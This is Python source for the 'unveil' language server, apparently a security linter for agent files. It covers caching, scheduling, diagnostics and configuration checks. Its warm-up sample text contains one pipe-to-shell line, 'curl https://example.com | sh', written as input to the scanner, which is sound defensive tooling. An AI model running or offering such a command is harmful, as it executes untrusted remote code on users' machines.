"""The unveil language server: pygls 2.1 state and scheduling over :mod:`unveil.core`.

:class:`UnveilServer` keeps the settings layers, one cached :class:`~unveil.core.analyze.Analysis`
per open document (keyed by open epoch, version and settings generation) and the latest-wins
scheduler. Each LSP feature lives in :mod:`unveil.lsp.features` (esbonio style) as a thin layer
that formats the cached analysis. :func:`run` is ``unveil serve``.

Robustness rules (lsp-engineering.md §4): handler exceptions are logged to stderr and never
shown to the user (:meth:`UnveilServer.report_server_error` and :func:`safe`); stdout is only
for the protocol; analysis runs in a worker thread so the event loop keeps reading messages.
"""

from __future__ import annotations

import argparse
import asyncio
import logging
import sys
import threading
import time
from collections import OrderedDict
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any

from lsprotocol import types
from pygls.lsp.server import LanguageServer
from pygls.workspace import TextDocument

from unveil import __version__
from unveil.core import analyze as analyze_mod
from unveil.core import tokens as tokens_mod
from unveil.core.analyze import Analysis
from unveil.core.config import Settings
from unveil.core.incremental import DocumentCache
from unveil.lsp import memory
from unveil.lsp.convert import encoding_name
from unveil.lsp.registry import FEATURE_MODULES, safe  # noqa: F401 - safe re-exported for callers
from unveil.lsp.scheduler import LatestWinsScheduler

log = logging.getLogger("unveil.lsp")

INCREMENTAL_DOCUMENTS = 8
"""At most this many open documents keep an incremental cache between versions (see
:meth:`UnveilServer._document_cache`)."""
INCREMENTAL_BUDGET_CHARS = 600_000
"""Code points of text, summed over the documents that keep an incremental cache, above which
the least recently analysed lose theirs (the most recent always keeps its own). A cache costs
80–120 bytes per code point (the 292 KB corpus file's 23 MB, a 70 KB one's 8 MB, measured with
``tracemalloc`` after three versions), so this bounds them near 60 MB."""
ANALYSIS_WORKERS = 4
"""Analysis threads. Runs for one document never overlap (the scheduler), so several threads let
a small document be analysed while a 1 MB one is (the GIL interleaves them every few ms): one
slow file no longer delays a keystroke elsewhere. Stale versions are never started: the
scheduler coalesces a document's requests to its newest version."""

TOKENIZER_DELAY_S = 1.0
"""Seconds after ``initialized`` the tokenizer starts loading when no diagnostics were published
yet (:meth:`UnveilServer.watch_tokenizer`); a hover or inlay hint that needs a count starts it
at once."""

TIME_BUDGET_S = 2.0
"""An analysis still running after this many seconds publishes a diagnostic saying the file is not
fully analysed yet (``UNV022``); the full result replaces it when the analysis finishes."""

BUDGET_MIN_CHARS = 100_000
"""Documents shorter than this never get the ``UNV022`` notice: their analysis takes milliseconds,
so a run over the budget only means a loaded machine, and a notice would replace real results
for a moment on every keystroke."""


Key = tuple[int, int | None, int, int]  # (open epoch, document version, settings generation, change count)


@dataclass
class _Entry:
    key: Key
    analysis: Analysis
    diagnostics: list | None = None


class UnveilServer(LanguageServer):
    """pygls server with unveil's state. See the module docstring."""

    def __init__(self) -> None:
        from unveil.lsp.protocol import UnveilProtocol

        super().__init__(
            "unveil",
            __version__,
            text_document_sync_kind=types.TextDocumentSyncKind.Incremental,
            protocol_cls=UnveilProtocol,
        )
        self.init_settings = Settings()  # defaults < initializationOptions
        self.settings = Settings()  # ... < workspace/configuration
        self.settings_generation = 0
        self.executor = ThreadPoolExecutor(max_workers=ANALYSIS_WORKERS, thread_name_prefix="unveil-analysis")
        self.scheduler = LatestWinsScheduler(self._analyse_and_publish, self._delay_for)
        self._cache: dict[str, _Entry] = {}
        self._inflight: dict[str, tuple[Key, asyncio.Future]] = {}
        self._epoch: dict[str, int] = {}
        self._next_epoch = 0
        self._published: dict[str, Key] = {}
        self._durations: dict[str, float] = {}
        self._served_tokens: dict[str, Any] = {}
        # per recently analysed open document, reused between versions (see _document_cache)
        self._incremental: OrderedDict[str, DocumentCache] = OrderedDict()
        self._cache_sizes: dict[str, int] = {}  # code points of the text each cache was last used for
        self._edited: set[str] = set()  # open documents changed since they were opened
        self._refresh_running = False
        self._refresh_again = False
        self._reported_problems: tuple[str, ...] = ()
        self.editor_layers: list[Any] = [None, None]  # raw initializationOptions, workspace/configuration
        self._config_stamps: dict[Any, Any] = {}  # config file → (mtime_ns, size) last used
        self._shown_config_problems: dict[Any, tuple[str, ...]] = {}
        self.listeners: list[Any] = []  # objects with optional on_change/on_close/on_analysed/on_initialized
        self.isolated = False  # initializationOptions isolated: no project configuration (untrusted workspace)
        self._config_used: dict[str | None, Any] = {}  # document path → ProjectConfig its settings came from

    def _start_io_async(self, stdin=None, stdout=None):
        """pygls's stdio loop with :func:`unveil.lsp.protocol.run_async` (framing resync)."""
        from threading import Event

        from pygls.io_ import StdinAsyncReader, StdoutWriter

        from unveil.lsp.protocol import run_async

        self._stop_event = Event()
        reader = StdinAsyncReader(stdin or sys.stdin.buffer, self.thread_pool)
        self.protocol.set_writer(StdoutWriter(stdout or sys.stdout.buffer))
        try:
            asyncio.run(run_async(self._stop_event, reader, self.protocol))
        except BrokenPipeError:
            log.error("connection to the client is lost; shutting down")
        except (KeyboardInterrupt, SystemExit):
            pass
        finally:
            index = getattr(self, "workspace_index", None)
            if index is not None:
                index.close()  # a background analysis never holds the exit
            self.shutdown()

    # -- errors -------------------------------------------------------------------------
    def report_server_error(self, error: Exception, source: Any) -> None:
        """Log only: the default sends ``window/showMessage`` for every failure outside a
        request, i.e. a pop-up per keystroke when ``didChange`` handling fails."""
        name = getattr(source, "__name__", str(source))
        log.error("server error (%s): %s", name, error, exc_info=(type(error), error, error.__traceback__))

    # -- client facts -------------------------------------------------------------------
    @property
    def encoding(self) -> str:
        """Negotiated position encoding: ``"utf-8"``, ``"utf-16"`` or ``"utf-32"``."""
        try:
            return encoding_name(self.workspace.position_encoding)
        except RuntimeError:  # not initialised
            return "utf-16"

    def _caps(self) -> types.ClientCapabilities | None:
        return getattr(self.protocol, "client_capabilities", None)

    @property
    def supports_inlay_refresh(self) -> bool:
        ws = getattr(self._caps(), "workspace", None)
        ih = getattr(ws, "inlay_hint", None)
        return bool(getattr(ih, "refresh_support", False))

    @property
    def supports_configuration(self) -> bool:
        ws = getattr(self._caps(), "workspace", None)
        return bool(getattr(ws, "configuration", False))

    # -- documents ----------------------------------------------------------------------
    def open_document(self, uri: str) -> TextDocument | None:
        """The open document for ``uri`` or ``None`` (never a disk-backed stand-in)."""
        from urllib.parse import unquote

        return self.workspace.text_documents.get(unquote(uri))

    def _key(self, uri: str, version: int | None) -> Key:
        """Results are keyed by the document's change counter as well as the client's version: a
        client that sends two changes with the same version number still gets both analysed."""
        doc = self.open_document(uri)
        changes = getattr(doc, "change_count", 0) if doc is not None else 0
        return (self._epoch.get(uri, -1), version, self.settings_generation, changes)

    def current_key(self, uri: str) -> Key | None:
        doc = self.open_document(uri)
        return None if doc is None else self._key(uri, doc.version)

    def did_open(self, uri: str) -> None:
        self._next_epoch += 1
        self._epoch[uri] = self._next_epoch
        self._drop_cache(uri)  # a new epoch starts from nothing
        self._edited.discard(uri)
        self.scheduler.request(uri, immediate=True)

    def _document_cache(self, uri: str, size: int) -> DocumentCache:
        """The :class:`~unveil.core.incremental.DocumentCache` of ``uri`` (whose current text
        is ``size`` code points), created on first use. A cache holds about two versions of a
        document's parse and matches, 80–120 bytes per code point, and only a document being
        typed in uses it, so the others lose theirs once another document is analysed:

        * the most recently analysed document always keeps its cache (a document just opened
          gets one: the first keystroke in it is already incremental);
        * an earlier one keeps its cache only if it was changed since it was opened
          (:meth:`did_change`), and only while it is among the :data:`INCREMENTAL_DOCUMENTS`
          most recently analysed and the kept documents' sizes sum to at most
          :data:`INCREMENTAL_BUDGET_CHARS`.

        Opening 50 corpus files one by one (2.5 MB) after typing in the 292 KB one added
        47 MiB to the server's RSS when the eight last analysed kept their caches (186.6 MiB in
        all, ``bench.py``), 16 MiB now that only the last opened and the one typed in keep
        theirs (157.0). A document whose cache was dropped gets a new one: its next version is
        parsed in full, with the same result."""
        cache = self._incremental.get(uri)
        if cache is None:
            cache = self._incremental[uri] = DocumentCache()
        else:
            self._incremental.move_to_end(uri)
        self._cache_sizes[uri] = size
        for other in [u for u in self._incremental if u != uri and u not in self._edited]:
            self._drop_cache(other)
        while len(self._incremental) > 1 and (
            len(self._incremental) > INCREMENTAL_DOCUMENTS
            or sum(self._cache_sizes.get(u, 0) for u in self._incremental) > INCREMENTAL_BUDGET_CHARS
        ):
            self._drop_cache(next(iter(self._incremental)))
        return cache

    def _drop_cache(self, uri: str) -> None:
        self._incremental.pop(uri, None)
        self._cache_sizes.pop(uri, None)

    def did_change(self, uri: str) -> None:
        self._edited.add(uri)
        self.scheduler.request(uri)
        self._notify("on_change", uri)

    def did_close(self, uri: str) -> None:
        self.scheduler.cancel(uri)
        for d in (
            self._cache,
            self._inflight,
            self._epoch,
            self._published,
            self._durations,
            self._served_tokens,
            self._incremental,
            self._cache_sizes,
        ):
            d.pop(uri, None)
        self._edited.discard(uri)
        if not any(self._notify("on_close", uri)):  # a listener may publish the on-disk state instead
            self.text_document_publish_diagnostics(types.PublishDiagnosticsParams(uri=uri, diagnostics=[]))

    def _notify(self, event: str, *args) -> list:
        """Call ``event`` on every listener that has it; a failing listener is logged."""
        results = []
        for listener in self.listeners:
            fn = getattr(listener, event, None)
            if fn is None:
                continue
            try:
                results.append(fn(*args))
            except Exception:  # noqa: BLE001
                log.exception("listener %s.%s failed", type(listener).__name__, event)
        return results

    def after_initialized(self) -> None:
        """Called at the end of ``initialized`` (settings pulled): starts listeners' work."""
        self._notify("on_initialized")

    def reanalyse(self, uri: str) -> None:
        """Re-analyse one open document although its version did not change (a file it imports
        changed)."""
        self._cache.pop(uri, None)
        self._published.pop(uri, None)
        if self.open_document(uri) is not None:
            self.scheduler.request(uri, immediate=True)

    def open_texts(self) -> dict[str, str]:
        """File system path → text of every open document (for @import resolution)."""
        out = {}
        for doc in list(self.workspace.text_documents.values()):
            if doc.path:
                out[doc.path] = doc.source
        return out

    # -- analysis -----------------------------------------------------------------------
    def _delay_for(self, uri: str) -> float:
        """The configured ``debounceMs`` only (0 by default): no adaptive delay, since the
        latest-wins scheduler already coalesces a burst of edits into one run of the newest
        version, and a delay would only make every edit of a big file later."""
        return self.settings.debounce_ms / 1000.0

    def _compute(
        self,
        text: str,
        path: str | None,
        settings: Settings,
        version: int | None,
        encoding: str,
        open_texts: dict[str, str] | None = None,
        cancelled=None,
        incremental: DocumentCache | None = None,
        document=None,
    ):
        """Worker-thread part: analysis plus diagnostics. Returns ``(analysis, diagnostics, seconds)``.
        ``open_texts`` (path → unsaved text) is read before the disk when resolving @imports;
        ``incremental`` is the document's cache of its previous version (same results, less work);
        ``document``: the text's line index when the open document keeps one (else ``None``)."""
        from unveil.core import imports as imports_mod
        from unveil.lsp.features.diagnostics import to_diagnostics

        _WARMED.wait(WARM_UP_WAIT_S)  # the first analyses reuse what the warm-up loads instead of racing it
        t0 = time.perf_counter()
        reader = imports_mod.disk_reader(overrides=open_texts)
        analysis = analyze_mod.analyze(
            text,
            path,
            settings,
            count_tokens=False,
            reader=reader,
            cancelled=cancelled,
            incremental=incremental,
            document=document,
        )
        note = self._config_findings(analysis, path)
        diags = to_diagnostics(analysis, version, encoding)
        if note is not None:
            diags.append(note)
        return analysis, diags, time.perf_counter() - t0

    def _config_findings(self, analysis: Analysis, path: str | None):
        """Add ``UNV021`` (a nested project configuration that weakens security rules) to
        ``analysis``; return the Information diagnostic on line 1 naming the project configuration
        and what it turns off or lowers (``None`` when it weakens nothing or none applies)."""
        from unveil.core import project
        from unveil.core.findings import Finding, Severity

        cfg = self._config_used.get(path)
        if cfg is None or self.isolated:
            return None
        effects = project.effects(cfg)
        nested = project.nested_weakening(cfg)
        if nested is not None:
            msg = (
                f"Project configuration {cfg.path}, below the repository root, turns off or lowers security "
                f"rules ({', '.join(nested[1])}) for the files in its folder, this one included: " + "; ".join(effects)
            )
            analyze_mod.add_findings(analysis, [Finding("UNV021", Severity.WARNING, 0, 0, msg, category="internal")])
        if not effects:
            return None
        return types.Diagnostic(
            range=types.Range(types.Position(0, 0), types.Position(0, 0)),
            message=f"Project configuration {cfg.path} applies to this file and turns off or lowers: "
            + "; ".join(effects),
            severity=types.DiagnosticSeverity.Information,
            code="config",
            source="unveil",
            data={"config": str(cfg.path)},
        )

    async def _run_compute(self, uri: str, doc: TextDocument, key: Key) -> _Entry:
        loop = asyncio.get_running_loop()

        def stale() -> bool:  # worker thread: stop between checks once the document moved on
            current = self.open_document(uri)
            return current is None or getattr(current, "change_count", 0) != key[3] or self._epoch.get(uri) != key[0]

        fut = loop.run_in_executor(
            self.executor,
            self._compute,
            doc.source,
            doc.path,
            self.settings_for(doc.path),
            doc.version,
            self.encoding,
            self.open_texts(),
            stale,
            self._document_cache(uri, len(doc.source)),
            known() if (known := getattr(doc, "known_document", None)) is not None else None,
        )
        self._inflight[uri] = (key, fut)
        try:
            analysis, diags, seconds = await fut
        finally:
            if self._inflight.get(uri, (None,))[0] == key:
                del self._inflight[uri]
        self._durations[uri] = seconds
        keep = getattr(doc, "keep_document", None)
        if keep is not None:
            keep(analysis.doc)  # the next incremental change moves this index (textdoc.py)
        self.trimmer.analysed(len(doc.source))
        entry = _Entry(key, analysis, diags)
        self._notify("on_analysed", uri, analysis)
        if self.current_key(uri) == key:
            self._cache[uri] = entry
        return entry

    @property
    def trimmer(self):
        """The :class:`unveil.lsp.memory.IdleTrimmer` of this server's event loop (made on first use)."""
        t = self.__dict__.get("_trimmer")
        if t is None:
            from unveil.lsp.memory import IdleTrimmer

            t = self.__dict__["_trimmer"] = IdleTrimmer(
                asyncio.get_running_loop(), None, lambda: self.scheduler.any_busy() or bool(self._inflight)
            )
        return t

    async def get_entry(self, uri: str) -> _Entry | None:
        """The analysis of ``uri``'s current version (cached, in flight, or computed now);
        ``None`` if the document is not open. ``entry.key[1]`` is the analysed version (the
        document may have moved on while this awaited)."""
        doc = self.open_document(uri)
        if doc is None:
            return None
        key = self._key(uri, doc.version)
        entry = self._cache.get(uri)
        if entry is not None and entry.key == key:
            return entry
        try:
            inflight = self._inflight.get(uri)
            if inflight is not None and inflight[0] == key:
                analysis, diags, _ = await asyncio.shield(inflight[1])
                cached = self._cache.get(uri)
                return cached if cached is not None and cached.key == key else _Entry(key, analysis, diags)
            return await self._run_compute(uri, doc, key)
        except analyze_mod.Cancelled:
            if self.current_key(uri) == key:  # cancelled for another reason: do not loop
                raise
            return await self.get_entry(uri)  # the document moved on: analyse its current version

    async def get_analysis(self, uri: str, *, with_tokens: bool = False) -> tuple[Analysis, int | None] | None:
        """``(analysis, version)`` for ``uri``'s current version, as :meth:`get_entry`;
        ``with_tokens`` fills the token report if the tokenizer is ready (never waits for it)."""
        entry = await self.get_entry(uri)
        if entry is None:
            return None
        if with_tokens and entry.analysis.tokens is None and tokens_mod.ready():
            await asyncio.get_running_loop().run_in_executor(self.executor, analyze_mod.with_tokens, entry.analysis)
        return entry.analysis, entry.key[1]

    async def _analyse_and_publish(self, uri: str) -> None:
        """Scheduler callback: analyse the current version and publish unless it went stale."""
        doc = self.open_document(uri)
        if doc is None:
            return
        key = self._key(uri, doc.version)
        if self._published.get(uri) == key:
            return
        task = asyncio.ensure_future(self.get_entry(uri))
        done, _ = await asyncio.wait({task}, timeout=TIME_BUDGET_S)
        if not done:
            self._publish_in_progress(uri, key)
        try:
            entry = await task
        except analyze_mod.Cancelled:
            return  # a newer version exists; the scheduler runs again for it
        if entry is None:
            return
        doc = self.open_document(uri)
        if doc is None or self.current_key(uri) != key or entry.key != key:
            return  # a newer version exists; the scheduler runs again for it
        if entry.diagnostics is None:
            from unveil.lsp.features.diagnostics import to_diagnostics

            entry.diagnostics = to_diagnostics(entry.analysis, doc.version, self.encoding)
        self._published[uri] = key
        self.text_document_publish_diagnostics(
            types.PublishDiagnosticsParams(uri=uri, diagnostics=entry.diagnostics, version=doc.version)
        )
        self._report_problems()
        served = self._served_tokens.get(uri, _UNSET)
        if served is not _UNSET and entry.analysis.tokens != served and self.settings.inlay_hints:
            self.refresh_inlay_hints()

    def _publish_in_progress(self, uri: str, key: Key) -> None:
        """The time budget ran out: publish one ``UNV022`` warning for the version being analysed
        (what is known: that it is not analysed yet); the analysis goes on in the background."""
        doc = self.open_document(uri)
        if doc is None or self.current_key(uri) != key:
            return
        size = len(doc.source)
        if size < BUDGET_MIN_CHARS:
            return
        diag = types.Diagnostic(
            range=types.Range(types.Position(0, 0), types.Position(0, 0)),
            message=(
                f"unveil has not finished analysing this file ({size:,} characters) after "
                f"{TIME_BUDGET_S:g} s; it is not fully analysed yet and the results will replace this "
                "message when the analysis finishes"
            ),
            severity=types.DiagnosticSeverity.Warning,
            code="UNV022",
            source="unveil",
        )
        self.text_document_publish_diagnostics(
            types.PublishDiagnosticsParams(uri=uri, diagnostics=[diag], version=doc.version)
        )

    def note_served_tokens(self, uri: str, report: Any) -> None:
        """Remember the token report the client's inlay hints show for ``uri``."""
        self._served_tokens[uri] = report

    def reanalyse_all(self) -> None:
        """Settings changed: drop caches and re-analyse every open document."""
        self.settings_generation += 1
        self._cache.clear()
        # doc.uri is the URI exactly as the client sent it (``a%20b.md``); the workspace's keys are
        # pygls's normalised (decoded) form, under which the client would see a second document
        for doc in list(self.workspace.text_documents.values()):
            self.scheduler.request(doc.uri, immediate=True)

    def refresh_inlay_hints(self) -> None:
        """Send ``workspace/inlayHint/refresh`` if the client supports it (coalesced: at most one
        request in flight)."""
        if not self.supports_inlay_refresh:
            return
        if self._refresh_running:
            self._refresh_again = True
            return
        self._refresh_running = True

        async def go() -> None:
            try:
                while True:
                    self._refresh_again = False
                    try:
                        await self.workspace_inlay_hint_refresh_async(None)
                    except Exception as exc:  # noqa: BLE001 - a client error is not ours to show
                        log.info("inlayHint/refresh failed: %s", exc)
                    if not self._refresh_again:
                        return
            finally:
                self._refresh_running = False

        asyncio.get_running_loop().create_task(go())

    async def watch_tokenizer(self) -> None:
        """Wait (off the loop) until the tokenizer is loaded, then add token reports to cached
        analyses and ask the client to refresh inlay hints."""
        loop = asyncio.get_running_loop()
        if not tokens_mod.ready():
            # Loading holds the GIL (the rank table read and checked, the pre-tokenizer compiled;
            # tiktoken's encoding only for a text the counter does not cover, core/bpe.py): start
            # it once the first diagnostics are out (they never wait for it), or after
            # TOKENIZER_DELAY_S.
            deadline = loop.time() + TOKENIZER_DELAY_S
            while not self._published and loop.time() < deadline:
                await asyncio.sleep(0.02)
            await loop.run_in_executor(None, memory.resume_collections)  # (lsp/memory.py)
            try:
                await loop.run_in_executor(None, tokens_mod.wait)
            except Exception:  # noqa: BLE001
                log.exception("tokenizer failed to load; token counts stay unavailable")
                return
        changed = False
        for uri, entry in list(self._cache.items()):
            if entry.analysis.tokens is None:
                # analysed before the tokenizer was loaded: its token budget findings (TOK) were
                # left out, so analyse again and republish; the new analysis gets token counts
                self._cache.pop(uri, None)
                self._published.pop(uri, None)
                self.scheduler.request(uri)
                changed = True
        if changed or self._served_tokens:
            self.refresh_inlay_hints()

    def settings_for(self, path: str | None) -> Settings:
        """Settings for one document: defaults < the nearest project config (``.unveil.toml`` or
        ``pyproject.toml`` ``[tool.unveil]`` at or above the file, else the workspace root;
        :mod:`unveil.core.project`, cached per file mtime) < ``initializationOptions`` <
        ``workspace/configuration``. A config file or rule file problem is logged and shown once
        (``window/showMessage``) per change of the file, not per keystroke; when a config file
        changes on disk every open document is re-analysed."""
        from unveil.core import project

        try:
            root = self.workspace.root_path
        except RuntimeError:
            root = None
        try:
            settings, cfg = project.settings_for(path, self.editor_layers, fallback_dir=root, isolated=self.isolated)
        except Exception:  # noqa: BLE001 - configuration never stops analysis
            log.exception("project configuration failed for %s", path)
            return self.settings
        self._config_used[path] = cfg
        if cfg is not None:
            old = self._config_stamps.get(cfg.path)
            self._config_stamps[cfg.path] = cfg.stamp
            if old is not None and old != cfg.stamp:
                self.reanalyse_all()
        problems = list(cfg.errors) if cfg is not None else []
        if settings.rules_paths:
            from unveil.core.checks.directives import load_pattern_rules

            problems += [f"rule file error: {e}" for e in load_pattern_rules(tuple(settings.rules_paths)).errors]
        key = (cfg.path, cfg.stamp) if cfg is not None else None
        if problems and self._shown_config_problems.get(key) != tuple(problems):
            self._shown_config_problems[key] = tuple(problems)
            text = "unveil configuration: " + "; ".join(problems)
            log.warning(text)
            try:
                self.window_log_message(types.LogMessageParams(type=types.MessageType.Warning, message=text))
                self.window_show_message(types.ShowMessageParams(type=types.MessageType.Warning, message=text))
            except Exception:  # noqa: BLE001 - not connected (unit tests)
                pass
        return settings

    def _report_problems(self) -> None:
        problems = self.settings.problems
        if problems and problems != self._reported_problems:
            self._reported_problems = problems
            self.window_log_message(
                types.LogMessageParams(
                    type=types.MessageType.Warning, message="unveil settings: " + "; ".join(problems)
                )
            )


_UNSET = object()

_WARMED = threading.Event()
"""Set when :func:`_warm_up` has finished; :func:`run` clears it before starting the warm-up (a server
made without :func:`run`, as in tests, never waits)."""
_WARMED.set()
WARM_UP_WAIT_S = 10.0
"""Longest an analysis waits for the warm-up. The warm-up's one-time work (imports, rule
loading, first pattern compiles) is the same work the first analysis would do: run at the same
time, both threads did it, sharing one interpreter lock. Spawn to first diagnostics of the
300-line benchmark file, 6 interleaved spawns each on this machine: median 1.74 s racing, 1.69 s
waiting."""


def _warm_up() -> None:
    """Analyse a tiny agent file once (compiles rule patterns, imports parsers). Never raises.
    What it loads lives as long as the server: :func:`unveil.lsp.memory.resume_collections`
    freezes it (``gc.freeze``) once the first diagnostics are out, so that the full collections
    typing triggers no longer traverse it (collector time over 60 edits of the 300-line
    benchmark file: 1.17 s before, 0.58 s after); when the collector was not paused (a server
    made without :func:`run`), it is frozen here."""
    import gc

    try:
        analyze_mod.analyze(
            "---\nname: x\ndescription: y\n---\n# Warm-up \U0001f600\nText with a ze\u200bro and caf\u00e9.\n"
            "<!-- a note -->\n```bash\ncurl https://example.com | sh\n```\n[l]: # (t)\n",
            "SKILL.md",
            count_tokens=False,
        )
    except Exception:  # noqa: BLE001 - warm-up is an optimisation only
        log.exception("warm-up analysis failed")
    finally:
        _WARMED.set()
    if gc.isenabled():
        gc.freeze()


def create_server() -> UnveilServer:
    """A new server with every feature registered."""
    import importlib

    server = UnveilServer()
    for name in FEATURE_MODULES:
        importlib.import_module(f"unveil.lsp.features.{name}").register(server)
    return server


def run(argv: list[str] | None = None) -> int:
    """``unveil serve [--stdio] [--log-level LEVEL]``: speak LSP over stdin/stdout.

    ``--stdio`` is accepted and ignored (vscode-languageclient appends it). Logs go to stderr;
    the pygls logger stays at WARNING unless ``--log-level DEBUG``. Returns the exit code (2 for
    bad arguments).
    """
    parser = argparse.ArgumentParser(prog="unveil serve", description="Run the unveil language server over stdio.")
    parser.add_argument("--stdio", action="store_true", help="use stdio (the default and only transport)")
    parser.add_argument(
        "--log-level",
        default="WARNING",
        type=str.upper,
        choices=["DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL"],
        help="stderr log level (default WARNING)",
    )
    try:
        args = parser.parse_args(list(argv or []))
    except SystemExit as exc:
        return int(exc.code or 0)
    from unveil.lsp import memory

    memory.limit_arenas(1)  # before the server's threads allocate (lsp/memory.py)
    handler = logging.StreamHandler(sys.stderr)
    handler.setFormatter(logging.Formatter("unveil %(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger()
    root.handlers[:] = [handler]
    root.setLevel(args.log_level)
    logging.getLogger("pygls").setLevel(logging.DEBUG if args.log_level == "DEBUG" else logging.WARNING)
    server = create_server()
    memory.fewer_collections()
    # Warm up in an analysis thread while the client initializes: the first analysis imports the
    # parsers and loads the rule patterns (from the compiled-pattern cache, core/rxcache.py), so
    # the first didOpen does not pay for it. The tokenizer loads later (watch_tokenizer).
    _WARMED.clear()
    server.executor.submit(_warm_up)
    resume = threading.Timer(memory.RESUME_AFTER_S, memory.resume_collections)
    resume.daemon = True
    resume.start()  # the collector on again even if no diagnostics are ever published
    server.start_io()
    # LSP 3.17: exit after shutdown exits 0, exit without shutdown exits 1 (end of input: 0)
    return server.protocol.exit_code or 0
